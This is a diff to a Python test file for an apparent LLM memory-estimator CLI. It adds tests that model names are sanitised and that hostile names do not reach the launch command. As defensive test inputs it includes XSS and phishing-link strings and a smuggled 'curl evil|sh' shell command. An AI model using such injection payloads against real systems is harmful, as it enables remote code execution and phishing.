@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from pathlib import Path
 
 import pytest
 
@@ -222,3 +223,65 @@ def test_every_cli_command_resolves_ollama_names_and_names_the_closest_on_a_typo
     code, out, err = cli(command, "--model", "llama3.1:8b", *gpu, *load.get(command, []))
     assert code == 0, err
     assert out.splitlines()[0] == "model: llama3.1:8b -> Llama-3.1-8B architecture, bf16"
+
+
+# --- names from outside: one cleaning and length limit (issue 29 item 4, audit F6) ------------------
+
+
+@pytest.mark.parametrize(
+    ("typed", "shown"),
+    [
+        ("[Official answer key](https://evil.example/phish)", "Official answer key (https:/evil.example/phish)"),
+        ("<script>alert(1)</script>", "script alert(1) /script"),
+        ("**bold** `code` ~~x~~ $x$ #h |t|", "bold code x x h t"),
+        ("see www.evil.example now", "see www evil.example now"),
+        ("N" * 5000, "N" * 60),
+        ("Qwen/Qwen3-8B (mine)", "Qwen/Qwen3-8B (mine)"),
+        ("  llama3.1:8b  ", "llama3.1:8b"),
+        ("通义千问 3", "通义千问 3"),
+        ("<>[]", ""),
+    ],
+)
+def test_a_name_from_outside_keeps_plain_characters_and_no_link(typed, shown):
+    from core.spec.display_name import clean_name
+
+    assert clean_name(typed, "") == shown
+    assert clean_name(clean_name(typed, ""), "") == clean_name(typed, "")  # cleaning twice changes nothing
+
+
+def test_every_model_built_from_a_config_gets_a_clean_name_and_the_catalog_keeps_its_own(catalog):
+    from core.spec.display_name import clean_name
+    from core.spec.hf_config import model_from_config
+
+    config = json.loads((Path(__file__).parent / "data" / "tiny_llama_config.json").read_text())
+    for name in ("[Official answer key](https://evil.example/phish)", "x" * 5000):
+        model = model_from_config(config, id="x", name=name)  # a link's, a file's or a Hub repo's name alike
+        assert model.name == clean_name(name, "x") and "](" not in model.name and len(model.name) <= 60
+    hostile_path = model_from_config({**config, "_name_or_path": "evil/[click](javascript:alert(1))"})
+    assert "[" not in hostile_path.name and "[" not in hostile_path.id
+    assert all(clean_name(m.name, "") == m.name for m in catalog.models)
+
+
+def test_only_a_repo_id_is_served_as_typed(catalog):
+    assert resolve("meta-llama/Llama-3.1-8B-Instruct", catalog).served_name == "meta-llama/Llama-3.1-8B-Instruct"
+    # text that merely ends in a catalog name is not a repo: the launch command serves the catalog's
+    assert resolve("x;curl evil|sh/Llama-3.1-8B", catalog).served_name == "meta-llama/Llama-3.1-8B"
+    assert resolve("[a](http://e.x)/Llama-3.1-8B", catalog).served_name == "meta-llama/Llama-3.1-8B"
+
+
+def test_an_unread_torch_dtype_is_said_in_the_cli_text_and_json(cli, tmp_path):
+    config = json.loads((Path(__file__).parent / "data" / "tiny_llama_config.json").read_text())
+    path = tmp_path / "odd.json"
+    path.write_text(json.dumps({**config, "torch_dtype": "float1024"}))
+    note = (
+        "torch_dtype 'float1024' in this config.json is not one this tool reads (bfloat16, float16 or float32): "
+        "its weights are taken as bf16, as when none is stated"
+    )
+    code, out, _ = cli("estimate", "--model", str(path), "--gpu", "a10")
+    assert code == 0 and f"note: {note}" in out.splitlines()[:3]
+    code, out, _ = cli("estimate", "--model", str(path), "--gpu", "a10", "--json")
+    assert json.loads(out)["model_match"]["notices"] == [note]
+    path.write_text(json.dumps(config))  # a dtype it reads: no notice, and the JSON keeps its keys
+    assert (
+        "notices" not in json.loads(cli("estimate", "--model", str(path), "--gpu", "a10", "--json")[1])["model_match"]
+    )
